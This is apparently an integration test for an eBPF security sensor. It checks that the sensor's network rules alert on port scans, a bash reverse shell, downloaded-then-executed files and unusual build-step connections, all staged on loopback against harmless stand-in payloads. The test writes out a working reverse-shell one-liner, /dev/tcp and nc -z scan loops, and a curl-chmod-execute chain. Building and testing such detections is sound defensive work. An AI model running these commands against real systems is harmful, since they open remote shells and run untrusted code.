#!/usr/bin/env python3
"""
test_network.py - who a process connects to, scans, reverse shells and
downloads that get run, with the shipped rules (rules/default/80-network.yaml).

Under the real sensor, against the real kernel:
  a. ordinary work first: curl fetching from a local HTTP server, a python
     client talking to a local TCP server: no alert at Warning or above.
  b. a bash /dev/tcp scan of 100 closed loopback ports: "Port scan" (a window
     or, if the scan ended before its first window, the short-lived form) on
     the scanning bash; its process record says exactly 100 attempts, 100
     failures, 100 new destinations, and 100 connect records name the 100 ports.
  c. `nc -z` over the same ports, when nc is installed: "Port scan"; a python
     socket loop over them in 2.5 s: "Port scan" judged on a window.
  d. a reverse shell (bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1) to this test's
     listener, which sends `exit`: "Shell connected out" naming the port.
  e. curl -o a program from the local server, chmod +x, run it: "Executed a
     file a connected process just wrote" on the program's pid; the same for
     `curl URL > file` (the shell opened the file) after a rename; and a
     downloaded #! script (judged by its own file).
  g. a build step learned on server A fetching from server B: "Build step
     connected to a new peer"; a context learned as never connecting that
     connects: "Connection by a binary that never connects" (Notice).
  f. nothing else at Warning or above on the test's processes.

argv: PLUMBLINE_BINARY. Needs root and BPF; skips (77) otherwise.
"""
import functools
import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

SENSOR = os.path.abspath(sys.argv[1])
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import scenario_lib as sl  # noqa: E402
from scenario_lib import Failure, fail, finish, log, skip, Sensor  # noqa: E402

WARN = ("EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING")
SCAN_PORTS = 100
SET_QUIET_S = 3   # a peers set is ready once no new member came for this long (default 600)
LEARN_RUNS = 26   # lifetimes learned per context (min_samples is 20; the first may wait for the hash)


def alerts(s, rule=None):
    return [r for r in s.records() if r.get("type") == "alert" and (rule is None or r.get("rule") == rule)]


def warn(a):
    return a.get("when") != "sensor" and (a.get("priority") or "").upper() in WARN


def wait_alert(s, pred, start, bound, what):
    deadline = start + max(3 * bound, 15)  # a loaded machine (the suite) delays records
    while time.monotonic() < deadline:
        hit = [a for a in alerts(s) if pred(a)]
        if hit:
            return hit[0], time.monotonic() - start
        time.sleep(0.1)
    fail(f"no {what} within {max(3 * bound, 15)} s (bound {bound} s); alerts: "
         f"{[(a.get('rule'), a.get('pid'), a.get('exe')) for a in alerts(s)]}")


def closed_ports(n):
    """n consecutive loopback ports nothing listens on (checked)."""
    for base in range(41000, 60000, 500):
        ok = True
        for p in range(base, base + n):
            c = socket.socket()
            try:
                c.settimeout(0.2)
                c.connect(("127.0.0.1", p))
                ok = False
            except OSError:
                pass
            finally:
                c.close()
            if not ok:
                break
        if ok:
            return list(range(base, base + n))
    fail("no range of closed loopback ports")


def low_port():
    """A free TCP port below 32768 (peers above are one "ephemeral" member)."""
    for port in range(23000, 32000, 7):
        t = socket.socket()
        try:
            t.bind(("127.0.0.1", port))
            t.close()
            return port
        except OSError:
            t.close()
    fail("no free port below 32768")


def serve_http(root, port=0):
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *a):
            pass
    handler = functools.partial(Quiet, directory=root)
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def echo_server():
    """A TCP server that echoes one line per connection (the learned, ordinary peer)."""
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(16)

    def run():
        while True:
            try:
                c, _ = ls.accept()
            except OSError:
                return
            with c:
                c.sendall(c.recv(100))
    threading.Thread(target=run, daemon=True).start()
    return ls


def shell_listener():
    """A listener for the reverse shell: sends `exit` to whatever connects."""
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(1)
    ls.settimeout(10)
    got = {}

    def run():
        try:
            c, _ = ls.accept()
        except OSError:
            return
        with c:
            c.settimeout(5)
            c.sendall(b"echo pl-reverse-$((6*7))\nexit\n")
            data = b""
            try:
                while True:
                    b = c.recv(4096)
                    if not b:
                        break
                    data += b
            except OSError:
                pass
            got["data"] = data
    t = threading.Thread(target=run, daemon=True)
    t.start()
    return ls, t, got


def main():
    sl.need_bpf("the sensor loads BPF")
    for tool in ("/bin/bash", "/usr/bin/curl", "/usr/bin/python3"):
        if not os.access(tool, os.X_OK):
            skip(f"no {tool}")
    d = sl.temp_dir("pl-network-")
    s = None
    ok = False
    results = []
    try:
        www = os.path.join(d, "www")
        os.mkdir(www)
        shutil.copy("/bin/true", os.path.join(www, "payload"))
        with open(os.path.join(www, "payload.sh"), "w") as f:
            f.write("#!/bin/sh\necho pl-script-ran\n")
        # another binary: alerts are throttled per (rule, binary)
        shutil.copy("/bin/echo", os.path.join(www, "payload2"))
        with open(os.path.join(www, "index.txt"), "w") as f:
            f.write("hello\n")
        srv = serve_http(www)
        url = f"http://127.0.0.1:{srv.server_address[1]}"
        echo = echo_server()
        ports = closed_ports(SCAN_PORTS)
        # two servers on fixed low ports: the build's learned peer, and a new one
        srv_a = serve_http(www, low_port())
        srv_b = serve_http(www, low_port())
        # a curl of this run's own: a user-writable directory makes its
        # identity its content (sha256), and a unique tail makes that content
        # this run's, so no other curl on the machine shares its baselines
        bindir = os.path.join(d, "bin")
        os.mkdir(bindir)
        os.chmod(bindir, 0o777)
        fetcher = os.path.join(bindir, "fetcher")
        shutil.copy(shutil.which("curl"), fetcher)
        with open(fetcher, "ab") as f:
            f.write(os.urandom(16))
        with open(os.path.join(d, "Makefile"), "w") as f:
            f.write("all:\n\t@$(FETCHER) -sf -o /dev/null $(URL)\n")
        s = Sensor(d, "s", SENSOR, extra=("--process-records", "--set-quiet", str(SET_QUIET_S)))
        log("sensor ready")

        # learning: a build step that always fetches from server A; the same
        # binary under sh that never connects
        url_a = f"http://127.0.0.1:{srv_a.server_address[1]}/index.txt"
        url_b = f"http://127.0.0.1:{srv_b.server_address[1]}/index.txt"
        for _ in range(LEARN_RUNS):
            sl.run_make(["-f", os.path.join(d, "Makefile"), f"FETCHER={fetcher}", f"URL={url_a}"], d, os.environ)
            subprocess.run(["/bin/sh", "-c", f"{fetcher} --version >/dev/null; true"], check=True)
        time.sleep(SET_QUIET_S + 1.5)

        # a. ordinary work
        for i in range(5):
            subprocess.run(["curl", "-sf", "-o", os.path.join(d, f"index{i}.txt"), f"{url}/index.txt"], check=True)
        subprocess.run([sys.executable, "-c",
                        "import socket,sys\nfor i in range(5):\n"
                        " c=socket.create_connection(('127.0.0.1',int(sys.argv[1])));c.sendall(b'x\\n');c.recv(9);c.close()",
                        str(echo.getsockname()[1])], check=True)
        time.sleep(1.0)
        tree = sl.tree(s.records(), {os.getpid()})
        early = [a for a in alerts(s) if warn(a) and a.get("pid") in tree]
        if early:
            fail(f"alerts on ordinary work: {[(a.get('rule'), a.get('exe'), a.get('output')) for a in early]}")
        log("a. curl x5 and a python client x5 on loopback: no alert at Warning or above")

        # b. a bash /dev/tcp scan
        start = time.monotonic()
        scan = subprocess.Popen(["/bin/bash", "-c",
                                 f"for p in {' '.join(map(str, ports))}; do echo > /dev/tcp/127.0.0.1/$p; done "
                                 "2>/dev/null; sleep 1.5"])
        scan.wait()
        a, t = wait_alert(s, lambda a: a.get("rule", "").startswith("Port scan") and a.get("pid") == scan.pid,
                          start, 3, "port scan alert on the scanning bash")
        results.append(("bash /dev/tcp scan", t, 3))
        if a.get("priority", "").upper() != "WARNING":
            fail(f"scan alert priority {a.get('priority')}")
        sl.settle(s, scan.pid)
        rec = [r for r in s.records() if r.get("type") == "process" and r.get("pid") == scan.pid
               and (r.get("exe") or "").endswith("/bash")]
        if not rec:
            fail("no process record of the scanner")
        r = rec[-1]
        got = (r.get("connects"), r.get("connect_failures"), r.get("connect_new_dests"))
        if got != (SCAN_PORTS, SCAN_PORTS, SCAN_PORTS):
            fail(f"scanner counts (connects, failures, new destinations) {got}, want {SCAN_PORTS} each")
        conns = [c for c in s.records() if c.get("type") == "connect" and c.get("pid") == scan.pid]
        seen = sorted(c["net"]["port"] for c in conns)
        if seen != ports or any(c["net"]["outcome"] != "failed" or c["net"]["class"] != "loopback"
                                or c["net"]["addr"] != "127.0.0.1" for c in conns):
            fail(f"connect records of the scan: {len(conns)}, ports {seen[:5]}..., want {ports[0]}..{ports[-1]}")
        log(f"b. bash scan of {SCAN_PORTS} closed ports: {a['rule']!r} at {a['priority']} in {t:.1f} s; "
            f"counts {got}; {len(conns)} connect records, every port once")

        # c. nc -z
        nc = shutil.which("nc")
        if nc:
            start = time.monotonic()
            p = subprocess.Popen(["/bin/bash", "-c", f"exec {nc} -z 127.0.0.1 {ports[0]}-{ports[-1]}"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            p.wait()
            a, t = wait_alert(s, lambda a: a.get("rule", "").startswith("Port scan") and a.get("pid") == p.pid,
                              start, 3, "port scan alert on nc -z")
            results.append(("nc -z scan", t, 3))
            log(f"c. nc -z over {SCAN_PORTS} ports: {a['rule']!r} in {t:.1f} s")
        else:
            log("c. no nc installed: nc -z not tried")

        # c2. a python socket loop, slow enough (2.5 s) to be judged by windows
        start = time.monotonic()
        py = subprocess.Popen([sys.executable, "-c",
                               "import socket,sys,time\n"
                               "for p in map(int, sys.argv[1:]):\n"
                               " s=socket.socket()\n"
                               " try: s.connect(('127.0.0.1',p))\n"
                               " except OSError: pass\n"
                               " s.close(); time.sleep(0.025)\n",
                               *map(str, ports)])
        a, t = wait_alert(s, lambda a: a.get("rule") == "Port scan" and a.get("pid") == py.pid, start, 3,
                          "window port scan alert on the python loop")
        py.wait()
        results.append(("python socket loop scan (window)", t, 3))
        log(f"c2. python socket loop over {SCAN_PORTS} ports in ~2.5 s: {a['rule']!r} in {t:.1f} s")

        # d. a reverse shell to our listener
        ls, lt, got = shell_listener()
        port = ls.getsockname()[1]
        start = time.monotonic()
        # the kernel picks the listener's port from the ephemeral range, where
        # the scans above may have tried it: only attempts from now on count
        start_real_ns = time.time_ns()
        rs = subprocess.Popen(["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        rs.wait(15)
        lt.join(10)
        if b"pl-reverse-42" not in got.get("data", b""):
            fail(f"the reverse shell did not run the listener's command: {got.get('data', b'')[-200:]!r}")
        a, t = wait_alert(s, lambda a: a.get("rule") == "Shell connected out" and str(port) in a.get("output", ""),
                          start, 2, "reverse shell alert")
        results.append(("reverse shell", t, 2))
        shells = [c for c in s.records() if c.get("type") == "connect" and c.get("net", {}).get("port") == port
                  and c["net"].get("attempt_ns", 0) >= start_real_ns]
        if len(shells) != 1 or shells[0]["pid"] != a.get("pid") or shells[0]["net"]["outcome"] != "connected":
            fail(f"connect records to the listener: {[(c['pid'], c['net']) for c in shells]}, alert pid {a.get('pid')}")
        log(f"d. reverse shell: {a['rule']!r} at {a['priority']} on pid {a['pid']} in {t:.1f} s")

        # e. download, chmod +x, run
        dl = os.path.join(d, "dl-payload")
        subprocess.run(["curl", "-sf", "-o", dl, f"{url}/payload"], check=True)
        os.chmod(dl, 0o755)
        start = time.monotonic()
        run = subprocess.Popen([dl])
        run.wait()
        a, t = wait_alert(s, lambda a: a.get("rule") == "Executed a file a connected process just wrote"
                          and a.get("pid") == run.pid, start, 2, "download-run alert")
        results.append(("curl -o, chmod +x, run", t, 2))
        # the shell's redirection, then a rename
        sub = subprocess.run(["/bin/bash", "-c", f"curl -sf {url}/payload2 > {d}/dl2 && chmod +x {d}/dl2 && "
                              f"mv {d}/dl2 {d}/renamed && exec {d}/renamed"], stdout=subprocess.DEVNULL)
        if sub.returncode:
            fail(f"the redirected download exited {sub.returncode}")
        a2, _ = wait_alert(s, lambda a: a.get("rule") == "Executed a file a connected process just wrote"
                           and (a.get("exe") or "").endswith("/renamed"), time.monotonic(), 2,
                           "download-run alert on curl > file, renamed")
        # a #! script: judged by its own inode (the kernel reports the interpreter)
        sh_dl = os.path.join(d, "dl-script.sh")
        subprocess.run(["curl", "-sf", "-o", sh_dl, f"{url}/payload.sh"], check=True)
        os.chmod(sh_dl, 0o755)
        start = time.monotonic()
        scr = subprocess.run([sh_dl], stdout=subprocess.PIPE)
        if b"pl-script-ran" not in scr.stdout:
            fail(f"the downloaded script did not run: {scr.stdout!r}")
        a3, t3 = wait_alert(s, lambda a: a.get("rule") == "Executed a file a connected process just wrote"
                            and "dl-script.sh" in a.get("output", ""), start, 2, "download-run alert on a script")
        results.append(("curl -o a script, chmod +x, run", t3, 2))
        log(f"e. curl -o + chmod + run: alert on pid {a['pid']} in {t:.1f} s; curl > file + mv + run: "
            f"alert on {a2.get('exe')}; a downloaded #! script: alert in {t3:.1f} s")

        # g. the learned build step talks to a new server; the never-connecting context connects
        start = time.monotonic()
        sl.run_make(["-f", os.path.join(d, "Makefile"), f"FETCHER={fetcher}", f"URL={url_b}"], d, os.environ)
        a, t = wait_alert(s, lambda a: a.get("rule") == "Build step connected to a new peer"
                          and (a.get("exe") or "").endswith("/fetcher"), start, 2,
                          "build step new peer alert")
        results.append(("build step to a new peer", t, 2))
        if f"loopback:tcp/{srv_b.server_address[1]}" not in a.get("output", ""):
            fail(f"the build alert does not name the new peer: {a.get('output')}")
        again = [x for x in alerts(s, "Build step connected to a new peer")
                 if (x.get("exe") or "").endswith("/fetcher") and f"tcp/{srv_a.server_address[1]}" in x.get("output", "")]
        if again:
            fail(f"the learned peer was called new: {again[0].get('output')}")
        start = time.monotonic()
        subprocess.run(["/bin/sh", "-c", f"{fetcher} -sf -o /dev/null {url_a}; true"])
        a, t = wait_alert(s, lambda a: a.get("rule") == "Connection by a binary that never connects"
                          and (a.get("exe") or "").endswith("/fetcher"), start, 2,
                          "never-connects alert")
        results.append(("a binary that never connects connected", t, 2))
        if a.get("priority", "").upper() != "NOTICE" or not (a.get("exe") or "").endswith("/fetcher"):
            fail(f"never-connects alert: {a.get('priority')} on {a.get('exe')}")
        log(f"g. build step to new server B: alert in {t:.1f} s; fetcher under sh, never connecting, "
            f"connected: Notice")

        # f. nothing else
        time.sleep(1.0)
        allowed = {"Port scan", "Port scan by a short-lived process", "Shell connected out",
                   "Executed a file a connected process just wrote", "Build step connected to a new peer"}
        # this test's processes (other work on the machine is not ours to judge)
        tree = sl.tree(s.records(), {os.getpid()})
        mine = [a for a in alerts(s) if warn(a) and a.get("pid") in tree and a.get("pid") != os.getpid()]
        others = [a for a in mine if a.get("rule") not in allowed]
        if others:
            fail(f"other alerts: {[(a.get('rule'), a.get('exe'), a.get('output')) for a in others]}")
        scans = [a for a in mine if a.get("rule", "").startswith("Port scan")]
        if any(a.get("pid") not in (scan.pid, py.pid) + ((p.pid,) if nc else ()) for a in scans):
            fail(f"scan alerts on other processes: {[(a.get('pid'), a.get('exe')) for a in scans]}")
        ok = True
    except Failure as e:
        print(f"FAIL: {e}", file=sys.stderr)
    finally:
        finish([s], d, ok, results)


if __name__ == "__main__":
    main()
